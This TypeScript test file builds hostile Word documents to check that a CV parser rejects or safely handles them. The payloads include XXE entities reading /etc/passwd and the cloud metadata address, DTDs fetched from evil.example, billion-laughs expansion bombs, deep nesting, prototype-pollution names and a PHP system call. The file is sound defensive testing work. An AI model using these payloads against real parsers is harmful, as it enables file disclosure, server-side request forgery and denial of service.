// Documents whose mark-up is the attack.
import { strToU8 } from 'fflate'
import { docxOf, documentXml, paragraph } from '../hostile.ts'
import type { HostileCase } from './case.ts'

const says = 'Ada Example'
const ada = paragraph('Ada Example, engine driver')
const xml = (
  name: string,
  expected: HostileCase['expected'],
  document: () => string | Uint8Array,
): HostileCase => ({
  name,
  filename: 'cv.docx',
  expected,
  bytes: () => {
    const made = document()
    return typeof made === 'string' ? docxOf(made) : docxOf('', { 'word/document.xml': made })
  },
  ...(expected === 'reads' ? { says } : {}),
})
const wrapped = (tag: string, times: number, inner: string) =>
  `<${tag}>`.repeat(times) + inner + `</${tag}>`.repeat(times)

const laughs = Array.from({ length: 9 }, (_, at) => {
  const inner = at === 0 ? 'ha' : `&l${at - 1};`.repeat(10)
  return `<!ENTITY l${at} "${inner}">`
}).join('')

/** Documents with declarations, which Word never writes. */
const TYPES = {
  'billion laughs': `<!DOCTYPE w [${laughs}]>`,
  'quadratic growth': `<!DOCTYPE w [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
  'a file of this machine': '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  'an address of the cloud': '<!DOCTYPE w [<!ENTITY a SYSTEM "http://169.254.169.254/latest/">]>',
  'a parameter entity': '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]>',
  'an outside declaration': '<!DOCTYPE w SYSTEM "http://evil.example/w.dtd">',
  'an entity that holds itself': '<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
  'a harmless declaration': '<!DOCTYPE w>',
}

const utf16 = (text: string, isBig: boolean) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le')
  return new Uint8Array(isBig ? bytes.swap16() : bytes)
}

export const docxXml: HostileCase[] = [
  ...Object.entries(TYPES).map(([name, type]) =>
    xml(name, 'cv.corrupt', () => documentXml(paragraph('&a;&l8;') + ada, type)),
  ),
  xml('a declaration in UTF-16', 'cv.corrupt', () =>
    utf16(documentXml(ada, '<!DOCTYPE w [<!ENTITY a "b">]>'), false),
  ),
  xml('a declaration in UTF-16, big end first', 'cv.corrupt', () =>
    utf16(documentXml(ada, '<!DOCTYPE w [<!ENTITY a "b">]>'), true),
  ),
  xml('UTF-16', 'reads', () => utf16(documentXml(ada), false)),
  xml('UTF-16 without its mark', 'reads', () => utf16(documentXml(ada), false).slice(2)),
  xml('UTF-7', 'cv.corrupt', () => strToU8('+ADw-w:document+AD4-Ada Example+ADw-/w:document+AD4-')),
  xml('a wrong claim of UTF-16', 'reads', () =>
    documentXml(ada).replace('?>', ' encoding="UTF-16"?>'),
  ),
  xml('bytes that are no UTF-8', 'reads', () =>
    strToU8(documentXml(ada + paragraph('caf\xe9')), true),
  ),
  xml('200 000 elements deep', 'cv.too_large', () => documentXml(wrapped('w:sdt', 200_000, ada))),
  ...[201, 5000].map((depth) =>
    xml(`${depth} elements deep`, 'cv.corrupt', () => documentXml(wrapped('w:sdt', depth, ada))),
  ),
  xml('150 elements deep', 'reads', () => documentXml(wrapped('w:sdt', 150, ada))),
  xml('sixty tables deep', 'reads', () => documentXml(tables(60))),
  xml('text boxes in text boxes', 'reads', () => documentXml(boxes(40))),
  xml('elements that never end', 'cv.corrupt', () => documentXml('<w:p>'.repeat(100_000))),
  xml('400 000 empty paragraphs', 'cv.too_large', () =>
    documentXml(ada + '<w:p/>'.repeat(400_000)),
  ),
  xml('60 000 paragraphs', 'cv.too_large', () => documentXml(ada.repeat(60_000))),
  xml('3 000 paragraphs', 'reads', () => documentXml(ada.repeat(3000))),
  xml('a text of 1.5 MB', 'reads', () => documentXml(ada + paragraph('word '.repeat(300_000)))),
  xml('a word of 1.5 MB', 'reads', () => documentXml(ada + paragraph('x'.repeat(1_500_000)))),
  xml('1.5 MB of blanks in a line', 'reads', () =>
    documentXml(ada + paragraph(`x${' '.repeat(1_500_000)}y`)),
  ),
  xml('150 000 blanks in a line', 'reads', () =>
    documentXml(ada + paragraph(`x${' '.repeat(150_000)}y`)),
  ),
  xml('20 000 lines that end in a hyphen', 'reads', () =>
    documentXml(ada + `<w:p><w:r>${'<w:t>ab-</w:t><w:br/>'.repeat(20_000)}</w:r></w:p>`),
  ),
  xml('an attribute of 1.5 MB', 'reads', () =>
    documentXml(ada.replace('<w:p>', `<w:p w:id="${'x'.repeat(1_500_000)}">`)),
  ),
  xml('100 000 attributes', 'reads', () =>
    documentXml(
      ada.replace(
        '<w:p>',
        `<w:p ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}>`,
      ),
    ),
  ),
  xml('an attribute that never closes', 'cv.corrupt', () =>
    documentXml(`${ada}<w:p w:id="${'x'.repeat(500_000)}`),
  ),
  xml('a name of 1 MB', 'reads', () => documentXml(`${ada}<${'x'.repeat(1_000_000)}/>`)),
  xml('200 000 references to characters', 'cv.corrupt', () =>
    documentXml(ada + paragraph('&amp;'.repeat(200_000))),
  ),
  xml('references to characters there are not', 'reads', () =>
    documentXml(ada + paragraph('&#xD800;&#x110000;&#99999999999;&#0;&#-1;&nothing;')),
  ),
  xml('text in a CDATA section', 'reads', () =>
    documentXml(paragraph('<![CDATA[Ada Example <script>alert(1)</script>]]>')),
  ),
  xml('a CDATA section that never ends', 'cv.corrupt', () => documentXml(`${ada}<![CDATA[ x`)),
  xml('100 000 comments', 'reads', () => documentXml(ada + '<!---->'.repeat(100_000))),
  xml('processing instructions', 'reads', () =>
    documentXml(`<?php system("id") ?><?xml-stylesheet href="http://evil.example"?>${ada}`),
  ),
  xml(
    'elements of another name space',
    'cv.empty',
    () =>
      '<x:document xmlns:x="w"><x:body><x:p><x:r><x:t>Ada Example</x:t></x:r></x:p></x:body></x:document>',
  ),
  xml('elements called like what every object has', 'cv.corrupt', () =>
    documentXml(`<__proto__>x</__proto__><constructor/><hasOwnProperty/><toString/>${ada}`),
  ),
  xml('attributes called like what every object has', 'cv.corrupt', () =>
    documentXml(ada.replace('<w:p>', '<w:p __proto__="x" constructor="y">')),
  ),
  xml('no mark-up', 'cv.corrupt', () => 'Ada Example'),
  xml('an empty document part', 'cv.corrupt', () => new Uint8Array()),
  xml('a document part of zeros', 'cv.corrupt', () => new Uint8Array(10_000)),
  xml('nothing but blanks', 'cv.empty', () => documentXml(paragraph(' \t '))),
  xml('nothing but pictures', 'cv.empty', () =>
    documentXml('<w:p><w:r><w:drawing/></w:r></w:p>'.repeat(20)),
  ),
  xml('nothing but deleted text', 'cv.empty', () => documentXml(`<w:del>${ada}</w:del>`)),
]

function tables(depth: number): string {
  let inner = ada
  for (let at = 0; at < depth; at++) inner = `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`
  return inner
}

function boxes(depth: number): string {
  let inner = ada
  for (let at = 0; at < depth; at++) {
    inner = `<w:p><w:r><w:txbxContent>${inner}</w:txbxContent></w:r></w:p>`
  }
  return inner
}
